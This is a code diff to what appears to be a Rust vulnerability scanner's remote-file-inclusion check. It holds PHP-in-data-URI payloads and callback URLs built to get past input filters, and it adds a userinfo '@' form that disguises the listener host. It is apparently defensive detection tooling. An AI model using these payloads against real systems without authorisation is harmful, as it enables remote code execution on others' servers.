@@ -29,12 +29,14 @@ static ABOUT: About = About {
 const SHOWN: &[&str] =
     &["data://text/plain,<?php print({a}*{b});?>", "data:text/plain,<?php print({a}*{b});?>#"];
 
-/// Addresses of the listener: with what makes an added extension harmless, and past filters for the usual writing.
+/// Addresses of the listener: with what makes an added extension harmless, and past filters for the usual writing. `{host}`
+/// stands for the host of the usual value.
 const CALLING: &[&str] = &[
     "http://{{callback}}/{{token}}?",
     "http://{{callback}}/{{token}}\0",
     "HTTP://{{callback}}/{{token}}",
     "hthttp://tp://{{callback}}/{{token}}?",
+    "http://{host}@{{callback}}/{{token}}?",
 ];
 
 impl Check for RemoteFile {
@@ -58,7 +60,7 @@ async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
         return;
     }
     if let Some((payload, proof)) = by_call(bench, entry, point).await {
-        return bench.report_at(150_057, entry, Some((point, payload)), proof);
+        return bench.report_at(150_057, entry, Some((point, &payload)), proof);
     }
     let marks = Marks::of(entry, point);
     let list: Vec<_> = SHOWN.iter().map(|template| products(template, &marks, &point.value)).collect();
@@ -68,15 +70,20 @@ async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
 }
 
 /// What the listener serves ran.
-async fn by_call(bench: &Bench<'_>, entry: &Entry, point: &Point) -> Option<(&'static str, Proof)> {
-    for payload in CALLING {
-        let token = callback::token_at(entry, point, payload);
-        let sent = callback::filled(bench, payload, &token)?;
+async fn by_call(bench: &Bench<'_>, entry: &Entry, point: &Point) -> Option<(String, Proof)> {
+    let host = point.value.split_once("://").and_then(|(_, rest)| rest.split(['/', '?', '#']).next());
+    for form in CALLING {
+        if form.contains("{host}") && host.is_none() {
+            continue;
+        }
+        let payload = form.replace("{host}", host.unwrap_or_default());
+        let token = callback::token_at(entry, point, form);
+        let sent = callback::filled(bench, &payload, &token)?;
         let answer = bench.send_of(entry, &entry.request.with(point, Put::Text(&sent))).await.ok()?;
         if !answer.text().contains(RAN) {
             continue;
         }
-        let attack = entry.request.with(point, Put::Text(payload));
+        let attack = entry.request.with(point, Put::Text(&payload));
         let replay = entry.replay(attack, Expect::Body(RAN.to_owned()), entry.request.clone());
         if let Ok(proof) = bench.prove(replay).await {
             return Some((payload, proof));
